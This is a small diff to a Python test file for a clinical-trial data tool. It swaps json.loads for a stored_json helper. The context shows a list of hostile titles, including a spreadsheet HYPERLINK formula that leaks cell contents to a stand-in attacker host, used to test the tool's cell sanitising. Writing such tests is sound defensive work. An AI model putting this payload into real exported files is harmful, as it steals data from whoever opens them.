@@ -30,7 +30,7 @@ from celltrials.export import export_trials
 from celltrials.ingest import ingest_paths
 from celltrials.report.build import build_report
 from celltrials.safety import FORMULA_PREFIXES, safe_cell, safe_url
-from tests.conftest import GENERAL_JSON, ICTRP_CSV, REPO
+from tests.conftest import GENERAL_JSON, ICTRP_CSV, REPO, stored_json
 
 HOSTILE_TITLES = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
@@ -142,7 +142,7 @@ def test_stored_urls_are_http_only(hostile_store: Path) -> None:
     with celltrials.open(hostile_store, read_only=True) as store:
         urls = [r[0] for r in store.con.execute("SELECT url FROM records").fetchall()]
         raw_urls = [
-            json.loads(r[0]).get("web_address")
+            stored_json(r[0]).get("web_address")
             for r in store.con.execute("SELECT raw FROM records WHERE channel = 'ictrp'").fetchall()
         ]
     assert all(u == "" or u.startswith(("http://", "https://")) for u in urls), urls
